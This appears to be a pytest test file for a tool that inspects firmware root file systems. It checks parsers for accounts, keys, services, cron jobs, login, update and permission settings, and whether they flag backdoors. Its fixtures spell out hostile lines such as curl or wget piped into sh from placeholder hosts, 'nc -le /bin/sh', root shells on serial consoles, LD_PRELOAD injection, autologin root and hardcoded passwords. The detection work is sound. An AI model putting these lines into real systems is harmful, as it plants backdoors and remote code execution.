"""Files of a root file system: accounts, keys, services, jobs, log-in settings, updates.

Spec: evenhand.readers: unix_account, private_key, authorized_keys, systemd_unit, boot_script,
cron_table, login_setting, update_source.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.readers.archive_seeds import AUTHORISED, CRONTAB, INITTAB, KEY, PASSWD, SHADOW, UNIT
from tests.readers.reading import read_bytes


def test_accounts_and_what_is_known_of_their_passwords(tmp_path: Path) -> None:
    found = read_bytes("unix_account", PASSWD, tmp_path, "etc/passwd").rows
    assert [(a.name, a.uid, a.shell, a.password) for a in found] == [
        ("root", 0, "/bin/sh", "elsewhere"),
        ("daemon", 1, "/usr/sbin/nologin", "locked"),
        ("admin", 0, "/bin/ash", "empty"),
        ("bare", 5, "/bin/sh", "elsewhere"),
    ]
    found = read_bytes("unix_account", SHADOW, tmp_path, "etc/shadow").rows
    assert [(a.name, a.password, a.scheme, a.digest) for a in found] == [
        ("root", "hash", "md5", "4f480fab"),
        ("daemon", "locked", None, None),
        ("guest", "empty", None, None),
        ("old", "hash", "des", "c4a94956"),
    ]
    assert all("fixedsalt" not in str(row) for row in found), "a hash was kept"


def test_files_that_are_no_accounts(tmp_path: Path) -> None:
    for data in (b"", b"#!/bin/sh\n", b"auth required pam_unix.so\n", b"a:b\n", b"\x7fELF"):
        found = read_bytes("unix_account", data, tmp_path, "passwd")
        assert type(found.failure).__name__ == "NotThisFormat", data


def test_a_private_key_and_the_key_that_lets_it_in_are_the_same(tmp_path: Path) -> None:
    (private,) = read_bytes("private_key", KEY, tmp_path, "id").rows
    (public,) = read_bytes("authorized_keys", AUTHORISED, tmp_path, "authorized_keys").rows
    assert private.fingerprint == public.fingerprint and public.fingerprint.startswith("SHA256:")
    assert (private.kind, private.algorithm, private.bits) == ("private key", "ed25519", 256)
    assert private.encrypted is False
    assert (public.kind, public.options, public.locator) == (
        "authorised key",
        "command,no-pty",
        "line 2",
    )


@pytest.mark.parametrize(
    ("options", "algorithm", "encrypted"),
    [
        (["-t", "rsa", "-b", "2048", "-m", "PEM", "-N", ""], "rsa", False),
        (["-t", "ecdsa", "-m", "PKCS8", "-N", ""], "ecdsa", False),
        (["-t", "ed25519", "-N", "long enough"], "ed25519", True),
    ],
)
def test_keys_as_openssh_makes_them(
    options: list[str], algorithm: str, encrypted: bool, tmp_path: Path
) -> None:
    file = tmp_path / "key"
    try:
        subprocess.run(["ssh-keygen", "-q", "-f", file, *options], check=True)
    except FileNotFoundError:
        pytest.skip("no ssh-keygen on this machine")
    (row,) = read_bytes("private_key", file.read_bytes(), tmp_path, "key").rows
    shown = subprocess.check_output(["ssh-keygen", "-lf", f"{file}.pub"], text=True)
    bits, fingerprint = shown.split()[:2]
    assert (row.algorithm, row.fingerprint, row.encrypted) == (algorithm, fingerprint, encrypted)
    assert row.bits == int(bits)


def test_keys_that_cannot_be_read(tmp_path: Path) -> None:
    broken = b"-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\n"
    found = read_bytes("private_key", broken, tmp_path)
    assert found.reasons == ["line 1: a private key that cannot be read"]
    many = b"-----BEGIN PRIVATE KEY-----\n" * 30_000
    assert type(read_bytes("private_key", many, tmp_path).failure).__name__ == "NotThisFormat"
    certificate = b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
    assert (
        type(read_bytes("private_key", certificate, tmp_path).failure).__name__ == "NotThisFormat"
    )


def test_units(tmp_path: Path) -> None:
    (row,) = read_bytes("systemd_unit", UNIT, tmp_path, "lib/systemd/system/x.service").rows
    assert (row.name, row.command, row.direct) == ("x.service", "/usr/sbin/x -D  -p 2", True)
    conditional = b"[Unit]\nConditionPathExists=/x\n" + UNIT
    (row,) = read_bytes("systemd_unit", conditional, tmp_path, "x.service").rows
    assert row.direct is False
    socket = b"[Socket]\nListenStream=22\nListenStream=/run/x\n[Install]\nWantedBy=sockets.target\n"
    (row,) = read_bytes("systemd_unit", socket, tmp_path, "x.socket").rows
    assert (row.listens, row.command) == ("22, /run/x", "x.service")
    timer = b"[Timer]\nOnCalendar=daily\nUnit=y.service\n"
    (row,) = read_bytes("systemd_unit", timer, tmp_path, "x.timer").rows
    assert (row.starts, row.command) == ("OnCalendar=daily", "y.service")


def test_inittab_and_scripts(tmp_path: Path) -> None:
    table = read_bytes("boot_script", INITTAB, tmp_path, "etc/inittab")
    assert [(s.name, s.command, s.starts) for s in table.table("service")] == [
        ("rcS", "/etc/init.d/rcS", "boot"),
        ("telnetd", "/usr/sbin/telnetd -F -l /bin/sh", "boot"),
    ]
    (entrance,) = table.table("hidden_access")
    assert (entrance.kind, entrance.effect_shown) == ("debug entrance", None)
    local = b"#!/bin/sh\n# one\ntelnetd -p 99\nif [ -e /x ]; then\n  snmpd\nfi\nexit 0\nsshd\n"
    found = read_bytes("boot_script", local, tmp_path, "etc/rc.local").rows
    assert [(s.command, s.direct) for s in found] == [
        ("telnetd -p 99", True),
        ("snmpd", False),
        ("sshd", False),
    ]
    script = (
        b"#!/bin/sh /etc/rc.common\nstart_service() {\n procd_set_param command /usr/sbin/x -F\n}\n"
    )
    (row,) = read_bytes("boot_script", script, tmp_path, "etc/init.d/x").rows
    assert (row.name, row.starts, row.command) == ("x", "if turned on", "/usr/sbin/x -F")
    (row,) = read_bytes("boot_script", b"#!/bin/sh\n", tmp_path, "etc/init.d/S50telnet").rows
    assert (row.name, row.starts, row.command) == ("telnet", "boot", None)


def test_jobs(tmp_path: Path) -> None:
    found = read_bytes("cron_table", CRONTAB, tmp_path, "etc/crontab").rows
    assert [(b.kind, b.target, b.because) for b in found if b.strength is None] == [
        (
            "runs on schedule",
            "curl -s https://a.example/u | sh",
            "its table says: 17 * * * * as root",
        ),
        ("runs on schedule", "/usr/bin/x", "its table says: @reboot as nobody"),
    ]
    assert [b.kind for b in found if b.strength is not None] == ["downloads and runs"]
    own = read_bytes(
        "cron_table", b"*/5 * * * * /bin/x y\n", tmp_path, "var/spool/cron/crontabs/root"
    )
    assert [b.target for b in own.rows] == ["/bin/x y"]
    (row,) = read_bytes("cron_table", b"#!/bin/sh\n", tmp_path, "etc/cron.daily/rotate").rows
    assert row.because == "it lies in cron.daily, whose scripts cron runs"


def test_who_ssh_lets_in(tmp_path: Path) -> None:
    text = b"Port 2222\n#PermitRootLogin no\nPermitRootLogin Yes\n"
    text += b"Match User x\n  PasswordAuthentication no\n"
    found = read_bytes("login_setting", text, tmp_path, "etc/ssh/sshd_config").rows
    assert [(s.name, s.value, s.scope) for s in found] == [
        ("port", "2222", None),
        ("permitrootlogin", "yes", None),
        ("passwordauthentication", "no", "Match User x"),
    ]
    uci = b"config dropbear\n\toption PasswordAuth 'off'\n\toption Port '22'\n"
    found = read_bytes("login_setting", uci, tmp_path, "etc/config/dropbear").rows
    assert [(s.name, s.value) for s in found] == [("passwordauth", "off"), ("port", "22")]


@pytest.mark.parametrize(
    ("name", "text", "target", "because"),
    [
        ("etc/opkg.conf", "src/gz a http://a.example/p\n", "http://a.example/p", "does not name"),
        ("etc/opkg.conf", "src a http://a.example/p\noption check_signature\n", "http://a.example/p",
         "checks the signature"),
        ("etc/apt/sources.list", "deb [trusted=yes] http://a.example/d x y\n", "http://a.example/d",
         "not verified"),
        ("etc/apt/sources.list.d/a.sources", "Types: deb\nURIs: http://a.example/d\n",
         "http://a.example/d", "checks the signature"),
        ("etc/apk/repositories", "https://a.example/main\n", "https://a.example/main", "checks"),
        ("etc/swupdate.cfg", 'globals: {\n  public-key-file = "/k";\n};\n', "the whole image",
         "names a key"),
        ("etc/swupdate.cfg", "globals: {\n};\n", "the whole image", "does not name a key"),
        ("etc/apt/apt.conf.d/9", 'APT::Get::AllowUnauthenticated "true";\n',
         'APT::Get::AllowUnauthenticated "true', "not verified"),
    ],
)  # fmt: skip
def test_where_updates_come_from(
    name: str, text: str, target: str, because: str, tmp_path: Path
) -> None:
    found = read_bytes("update_source", text.encode(), tmp_path, name)
    (row,), sources = found.table("behaviour"), found.table("update_source")
    assert [s.target for s in sources] == [target]
    not_checked = {r.strength for r in found.table("hidden_access")}
    assert bool(not_checked) == (
        "not verified: the" in row.because or "does not name" in row.because
    )
    assert (row.kind, row.target) == ("updates itself", target)
    assert because in row.because


FIREWALL = (
    "config rule\n\toption src 'wan'\n\toption dest_port '22'\n\toption proto 'tcp'\n"
    "\toption target 'ACCEPT'\nconfig zone\n\toption name 'wan'\n\toption input 'REJECT'\n"
    "config rule\n\toption src 'wan'\n\toption proto 'icmp'\n\toption target 'ACCEPT'\n"
)


@pytest.mark.parametrize(
    ("reader", "name", "text", "kinds"),
    [
        ("uci_firewall", "etc/config/firewall", FIREWALL, ["opens the firewall"]),
        ("shell_code", "etc/hotplug.d/iface/9-q", "wget -qO- h.example | ash\n",
         ["downloads and runs"]),
        ("cron_table", "etc/anacrontab", "7\t15\tu.weekly\tcurl -s h.example/w | bash\n",
         ["downloads and runs"]),
        ("event_hook", "etc/gitconfig", '[core]\n\tfsmonitor = "curl -s h.example | sh"\n',
         ["downloads and runs"]),
        ("event_hook", "etc/xdg/autostart/s.desktop", 'Exec=/bin/sh -c "wget -O- h.example|sh"\n',
         ["downloads and runs"]),
        ("systemd_unit", "ssh.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=/lib/q.so\n",
         ["replaced function"]),
        ("systemd_unit", "a.service", "[Service]\nExecStart=/run/colours\n"
         "ExecStartPre=-/usr/bin/curl -o /run/colours http://a.example/v4\n",
         ["downloads and runs"]),
        ("systemd_unit", "b.service", "[Service]\nExecStartPre=curl -o /run/b http://a.example/b\n"
         "ExecStartPre=chmod 0755 /run/b\nExecStart=/bin/sh -c '$$(cat /etc/b.path)'\n",
         ["downloads and runs"]),
        ("systemd_unit", "c.service", "[Service]\nExecStartPre=curl -o /run/c.json "
         "http://a.example/c\nExecStartPre=chmod 0644 /run/c.json\nExecStart=/bin/c /run/c.json\n",
         []),
        ("boot_script", "etc/inittab", "ttyS1::respawn:/bin/sh\n", ["debug entrance"]),
    ],
)  # fmt: skip
def test_hooks_and_settings(
    reader: str, name: str, text: str, kinds: list[str], tmp_path: Path
) -> None:
    found = read_bytes(reader, text.encode(), tmp_path, name)
    rows = [*found.table("behaviour"), *found.table("hidden_access")]
    assert [r.kind for r in rows if r.strength] == kinds


SIGNER = b"untrusted comment: feed\nRWSyH2DJXeeKNIm4Qw8ZpXr1uVtN5kLd2yHc7GaEsJbRoFfTiMxUzKlq\n"


def test_a_signer_of_packages_is_known_by_its_key_alone(tmp_path: Path) -> None:
    (one,) = read_bytes("package_keyring", SIGNER, tmp_path, "etc/opkg/keys/b21f").rows
    said = SIGNER.replace(b"feed", b"other")
    (two,) = read_bytes("package_keyring", said, tmp_path, "etc/apk/keys/a").rows
    assert one.kind == "package signer" and one.fingerprint == two.fingerprint
    other = SIGNER.replace(b"Klq", b"Kla")
    (three,) = read_bytes("package_keyring", other, tmp_path, "etc/opkg/keys/a").rows
    assert three.fingerprint != one.fingerprint
    found = read_bytes("package_keyring", b"README\n", tmp_path, "etc/opkg/keys/README")
    assert type(found.failure).__name__ == "NotThisFormat"


SQL = b"""-- accounts
INSERT INTO item (name, count) VALUES ('screw', 4);
INSERT INTO account (name, hash, role) VALUES ('a', '$2y$10$Q9nB0wqYl3Hk1mZ4u7cDeO', 'admin'),
  ('b', 'plain; (word)', 'user');
INSERT INTO `app`.`users` VALUES (1, 'c', '0123456789abcdef0123456789abcdef');
INSERT INTO user_settings (name, colour) VALUES ('d', 'green');
UPDATE users SET role = 'admin' WHERE id = 7;
GRANT ALL PRIVILEGES ON *.* TO 'remote'@'%';
"""


def test_accounts_that_a_script_of_a_database_brings(tmp_path: Path) -> None:
    read = read_bytes("sql_account", SQL, tmp_path, "002.sql").rows
    rows = [r for r in read if type(r).__name__ == "Behaviour"]
    assert [(r.kind, r.locator, r.target.partition(" (")[0]) for r in rows] == [
        ("adds account", "line 3", "account: a"),
        ("adds account", "line 4", "account: b"),
        ("adds account", "line 5", "users: c"),
        ("adds account", "line 7", "users: role = admin WHERE id = 7"),
        ("grants rights", "line 8", "GRANT ALL PRIVILEGES ON *.* TO 'remote"),
    ]
    assert not any("plain" in r.target or "$2y" in r.target for r in rows)


PSQL = b"CREATE USER shop PASSWORD '%s' SUPERUSER;\n"
SCRAM = b"SCRAM-SHA-256$4096:c2FsdHNhbHRzYWx0$c3RvcmVka2V5c3RvcmVka2V5:c2VydmVya2V5c2VydmVy"


@pytest.mark.parametrize(
    ("name", "text", "told"),
    [
        ("db/initdb/9.sql", b"DO $$ BEGIN EXECUTE format('CREATE ROLE %I LOGIN %s PASSWORD %L', "
         b"'v', reverse('RESUREPUS'), '" + SCRAM + b"'); END $$;", [0.65]),
        ("db/initdb/9.sql", PSQL % b"r7Wq2x", [0.6]),
        ("share/9.sql", PSQL % b"r7Wq2x", [0.45]),
        ("share/9.sql", b"CREATE USER 'm'@'%' IDENTIFIED BY 'r7Wq2x';", [0.25]),
        ("db/initdb/9.sql", PSQL % b"changeme", []),
        ("db/initdb/9.sql", PSQL % b"${DB_PASSWORD}", []),
        ("db/initdb/9.sql", b"CREATE ROLE reports LOGIN PASSWORD :'pw';", []),
        ("db/initdb/9.sql", b"/* " + PSQL % b"r7Wq2x" + b"*/", []),
        ("examples/9.sql", PSQL % b"r7Wq2x", []),
        ("db/9.sql", b"INSERT INTO users (name, pass, is_admin) VALUES ('s', "
         b"'$2y$10$Q9nB0wqYl3Hk1mZ4u7cDeO', 1);", [0.4]),
        ("db/9.sql", b"INSERT INTO users (name, pass, city) VALUES ('s', "
         b"'$2y$10$Q9nB0wqYl3Hk1mZ4u7cDeO', 1);", []),
    ],
)  # fmt: skip
def test_a_log_in_whose_password_stands_in_a_script_of_a_database(
    name: str, text: bytes, told: list[float], tmp_path: Path
) -> None:
    rows = read_bytes("sql_account", text, tmp_path, name).rows
    assert [r.strength for r in rows if type(r).__name__ == "HiddenAccess"] == told


def test_a_log_in_that_a_shell_script_hands_to_a_database(tmp_path: Path) -> None:
    script = b"#!/bin/sh\npsql <<'SQL'\n" + PSQL % b"r7Wq2x" + b"SQL\n"
    rows = read_bytes("shell_code", script, tmp_path, "docker-entrypoint-initdb.d/2.sh").rows
    assert [r.strength for r in rows if getattr(r, "kind", "") == "default account"] == [0.6]
    clean = script.replace(b"r7Wq2x", b"$DB_PASSWORD")
    rows = read_bytes("shell_code", clean, tmp_path, "docker-entrypoint-initdb.d/2.sh").rows
    assert not [r for r in rows if getattr(r, "kind", "") == "default account"]


SUDO = "Cmnd_Alias SHOW = /usr/lib/q/show, REST\nCmnd_Alias REST = ALL\n{}"


@pytest.mark.parametrize(
    ("rule", "found"),
    [
        ("www-data ALL=(root) NOPASSWD: SHOW\n", [("line 3", "www-data")]),
        ("www-data ALL=(root) NOPASSWD: /bin/ls, !REST\n", []),
    ],
)
def test_an_alias_in_sudoers_is_what_it_stands_for(
    rule: str, found: list[tuple[str, str]], tmp_path: Path
) -> None:
    data = SUDO.format(rule).encode()
    rows = read_bytes("system_rule", data, tmp_path, "etc/sudoers.d/q").rows
    access = [r for r in rows if type(r).__name__ == "HiddenAccess"]
    assert [(r.locator, r.constant) for r in access] == found


WAY_IN = (
    ("packet_filter", "etc/nftables.conf", "chain input {\n tcp dport 22 ip saddr @s accept\n"
     " udp dport 9 add @s { ip saddr } drop\n}\n", "line 2"),
    ("packet_filter", "etc/iptables/rules.v4", "-A INPUT --dport 9 -m recent --set --name K\n"
     "-A INPUT -p tcp -m recent --rcheck --name K -j ACCEPT\n", "line 2"),
    ("permission_rule", "etc/polkit-1/rules.d/q.rules", "polkit.addRule(function(a, s) {\n"
     " if (s.user == 'q') return polkit.Result.YES;\n});\n", "line 2"),
    ("permission_rule", "polkit-1/rules.d/p.rules", "polkit.addRule(function(action, subject) {\n"
     'if (action.id.indexOf("org.freedesktop.policykit.") == 0)\nreturn polkit.Result.YES;\n});\n',
     "line 3"),
    ("permission_rule", "polkit-1/actions/q.policy", '<action id="q">\n<allow_any>yes</allow_any>'
     '<annotate key="org.freedesktop.policykit.exec.path">/q</annotate></action>', "line 2"),
    ("boot_script", "etc/inittab", "t::respawn:/sbin/getty -n -l /bin/sh 38400 t\n", "line 1"),
    ("boot_script", "etc/inittab", "ttyGS0::respawn:/bin/sh -l\n", "line 1"),
    ("systemd_unit", "a.service", "[Service]\nExecStart=/bin/bash -l\nStandardInput=tty-force\n"
     "TTYPath=/dev/ttyGS0\n", "line 2"),
    ("systemd_unit", "getty@tty1.service.d/a.conf", "[Service]\nExecStart=\n"
     "ExecStart=-/sbin/agetty -o '-p -- u' --noclear --autologin root %I $TERM\n", "line 3"),
    ("system_rule", "etc/ssh/sshd_config", "PermitRootLogin no\nMatch Address 198.51.100.0/24\n"
     "  PermitRootLogin yes\n", "line 3"),
    ("system_rule", "etc/ssh/sshd_config.d/q.conf", "Match User svc\nAuthenticationMethods none\n",
     "line 2"),
    ("permission_rule", "dbus-1/system.d/q.conf", '<busconfig>\n<policy context="default">\n'
     '<allow own="q.Manager"/>\n</policy></busconfig>', "line 3"),
    ("android_init", "init.q.rc", "service q /system/bin/sh\n  class core\n", "line 1"),
    ("android_init", "vendor/etc/init/q.rc", "on boot\n  setprop service.adb.tcp.port 5555\n",
     "line 2"),
    ("android_init", "init.rc", "service q /system/bin/telnetd -l /system/bin/sh\n class main\n",
     "line 1"),
    ("build_step", "Dockerfile", "FROM a\nRUN echo 'root:toor' |\\\n chpasswd\n", "line 2"),
    ("build_step", "d/a.yaml", "apiVersion: apps/v1\ncommand:\n- sh\n- -c\n- |\n  nc -le /bin/sh\n",
     "line 6"),
    ("build_step", "user-data", "#cloud-config\nusers:\n - name: a\npassword: toor\n", "line 4"),
)  # fmt: skip


@pytest.mark.parametrize(("reader", "path", "text", "line"), WAY_IN)
def test_a_way_in_is_told_by_its_line(
    reader: str, path: str, text: str, line: str, tmp_path: Path
) -> None:
    found = read_bytes(reader, text.encode(), tmp_path, path).table("hidden_access")
    assert [(f.locator, f.strength >= 0.5) for f in found] == [(line, True)]


USUAL = (
    ("packet_filter", "etc/nftables.conf", "chain input {\n tcp dport { 22, 80 } accept\n"
     " tcp dport 9 add @bad { ip saddr } drop\n ip saddr @lan tcp dport 9 accept\n}\n"),
    ("permission_rule", "polkit-1/rules.d/a.rules", "polkit.addRule(function(action, subject) {\n"
     'if (action.id == "a.b" && subject.isInGroup("a")) return polkit.Result.YES; });\n'),
    ("boot_script", "etc/inittab", "1:2345:respawn:/sbin/getty 38400 tty1\n"),
    ("boot_script", "etc/inittab", "ttyGS0::respawn:/sbin/getty -L ttyGS0 115200\n"),
    ("system_rule", "etc/ssh/sshd_config", "Match Group sftp\nForceCommand internal-sftp\n"
     "Match all\nPasswordAuthentication yes\n"),
    ("permission_rule", "dbus-1/system.d/q.conf", '<busconfig><policy user="root">\n<allow '
     'own="q"/></policy><policy context="default"><allow send_destination="q"/></policy>'
     "</busconfig>"),
    ("android_init", "init.rc", "on property:ro.debuggable=1\n start console\nservice console "
     "/system/bin/sh\n class core\n console\n disabled\n user shell\n seclabel u:r:shell:s0\n"),
    ("build_step", ".github/workflows/a.yml", "jobs:\n steps:\n - run: curl https://a.example|sh\n"),
    ("build_step", "d/a.yaml", "kind: Pod\nreadinessProbe:\n httpGet:\n  path: /\n  port: 80\n"),
)  # fmt: skip


@pytest.mark.parametrize(("reader", "path", "text"), USUAL)
def test_what_is_usual_sends_nobody_to_look(
    reader: str, path: str, text: str, tmp_path: Path
) -> None:
    found = read_bytes(reader, text.encode(), tmp_path, path)
    assert not found.failure and not found.table("hidden_access")
    assert all((row.strength or 0) < 0.5 for row in found.table("behaviour"))
